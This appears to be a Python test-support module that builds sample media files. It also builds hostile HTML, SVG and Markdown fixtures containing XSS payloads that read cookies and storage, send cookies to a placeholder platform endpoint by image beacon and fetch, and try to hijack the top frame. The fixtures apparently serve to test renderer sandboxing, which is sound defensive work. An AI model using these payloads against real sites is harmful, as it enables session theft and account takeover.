# ruff: noqa: E501  (embedded shell, JavaScript and markup read better unwrapped)
"""Real, small media files for renderer, preview and browser tests (made, not mocked); the picture,
tone and PDF are devstack's (`devstack.samples`, which the benchmarks use too)."""

import json
import struct
import subprocess
import tempfile
from pathlib import Path
from typing import Any

from devstack.samples import pdf_bytes as pdf_bytes
from devstack.samples import png_bytes as png_bytes
from devstack.samples import wav_bytes as wav_bytes
from tests.support import has_executable, require

_HOSTILE_HTML = """<!doctype html><html><head><meta charset="utf-8"><title>hostile</title></head>
<body style="font-family:sans-serif;background:#fff3e0">
<h1>Totally harmless page</h1>
<pre id="result">running</pre>
<script>
(async function () {
  var out = {};
  try { out.cookie = document.cookie; } catch (e) { out.cookie = "ERR:" + e.name; }
  try { localStorage.setItem("pwned", "1"); out.localStorage = localStorage.getItem("pwned"); }
  catch (e) { out.localStorage = "ERR:" + e.name; }
  try {
    var target = "__PLATFORM__/";
    var response = await fetch(target, { credentials: "include" });
    var text = await response.text();
    out.fetch = response.status + ":" + text.slice(0, 20000);
  } catch (e) { out.fetch = "ERR:" + e.name; }
  try { out.parentCookie = window.parent.document.cookie; } catch (e) { out.parentCookie = "ERR:" + e.name; }
  try { new Image().src = "__PLATFORM__/__pwned__/html?c=" + encodeURIComponent(out.cookie || ""); } catch (e) {}
  document.getElementById("result").textContent = JSON.stringify(out);
  document.title = "done";
  // Framed, try to take over the platform's page (navigating itself as a top-level page is no attack).
  if (window.top !== window) {
    try { window.top.location = "__PLATFORM__/__pwned__/navigated"; } catch (e) { out.top = "ERR:" + e.name; }
  }
})();
</script></body></html>
"""

_HOSTILE_SVG = """<svg xmlns="http://www.w3.org/2000/svg" width="200" height="120" viewBox="0 0 200 120"
 onload="document.documentElement.setAttribute('data-pwned', 'yes:' + document.cookie); fetch('__PLATFORM__/__pwned__/svg?c=' + encodeURIComponent(document.cookie))">
<rect width="200" height="120" fill="#3d5afe"/><text x="20" y="70" fill="#fff" font-size="24">hostile svg</text>
<script>document.documentElement.setAttribute('data-script', 'ran');</script>
</svg>
"""

_HOSTILE_MARKDOWN = """# Quarterly report

Everything is fine.

<script>window.__pwned = true; new Image().src = '__PLATFORM__/__pwned__/markdown';</script>

<img src="x" onerror="window.__pwned = true">

[Click for details](javascript:window.__pwned=true)

| Quarter | Sales |
|---------|-------|
| Q1      | 12    |
"""


def hostile_html(platform: str) -> bytes:
    """HTML that tries to read cookies and storage, call the platform as the viewer, and navigate the top."""
    return _HOSTILE_HTML.replace("__PLATFORM__", platform.rstrip("/")).encode()


def hostile_svg(platform: str) -> bytes:
    return _HOSTILE_SVG.replace("__PLATFORM__", platform.rstrip("/")).encode()


def hostile_markdown(platform: str) -> bytes:
    return _HOSTILE_MARKDOWN.replace("__PLATFORM__", platform.rstrip("/")).encode()


def mp4_bytes(seconds: int = 4) -> bytes:
    """A small H.264 MP4 (ffmpeg's test pattern), fast-start so browsers can seek at once."""
    with tempfile.TemporaryDirectory() as tmp:
        out = Path(tmp) / "clip.mp4"
        subprocess.run(
            ["ffmpeg", "-nostdin", "-v", "error", "-f", "lavfi", "-i", f"testsrc=size=320x240:rate=24:duration={seconds}",
             "-pix_fmt", "yuv420p", "-c:v", "libx264", "-preset", "ultrafast", "-movflags", "+faststart", str(out)],
            check=True,
            timeout=60,
        )  # fmt: skip
        return out.read_bytes()


def midi_bytes() -> bytes:
    """A type-0 MIDI file: a C major arpeggio on the piano, about two seconds."""
    events = bytearray()
    for note in (60, 64, 67, 72):
        events += bytes([0x00, 0x90, note, 0x60])  # note on at delta 0
        events += bytes([0x83, 0x60, 0x80, note, 0x40])  # note off after 480 ticks
    events += bytes([0x00, 0xFF, 0x2F, 0x00])  # end of track
    header = b"MThd" + struct.pack(">IHHH", 6, 0, 1, 480)
    return header + b"MTrk" + struct.pack(">I", len(events)) + bytes(events)


def map_html_bytes() -> bytes:
    """A self-contained 'map' page (no network): an SVG of pins drawn by script."""
    return b"""<!doctype html><html><head><meta charset="utf-8"><title>Tokyo food map</title>
<style>body{margin:0;font-family:sans-serif} #map{width:100%;height:360px;background:#cfe8f3}</style></head>
<body><div id="map" data-ready="no"></div><script>
var pins = [["Tsukiji breakfast", 80, 120], ["Ramen lunch", 220, 200], ["Izakaya dinner", 340, 90]];
var svg = '<svg xmlns="http://www.w3.org/2000/svg" width="100%" height="360">';
pins.forEach(function (p) { svg += '<circle cx="' + p[1] + '" cy="' + p[2] + '" r="9" fill="#e53935"/>' +
  '<text x="' + (p[1] + 14) + '" y="' + (p[2] + 5) + '" font-size="14">' + p[0] + '</text>'; });
document.getElementById("map").innerHTML = svg + "</svg>";
document.getElementById("map").setAttribute("data-ready", "yes");
</script></body></html>
"""


def probe_media(path: Path) -> dict[str, Any]:
    """ffprobe's account of a media file (format and streams), for tests that check what was made."""
    require(has_executable("ffprobe"), "ffprobe (ffmpeg) on the host")
    result = subprocess.run(
        ["ffprobe", "-v", "error", "-print_format", "json", "-show_format", "-show_streams", str(path)],
        capture_output=True,
        text=True,
        check=True,
    )
    return dict(json.loads(result.stdout))
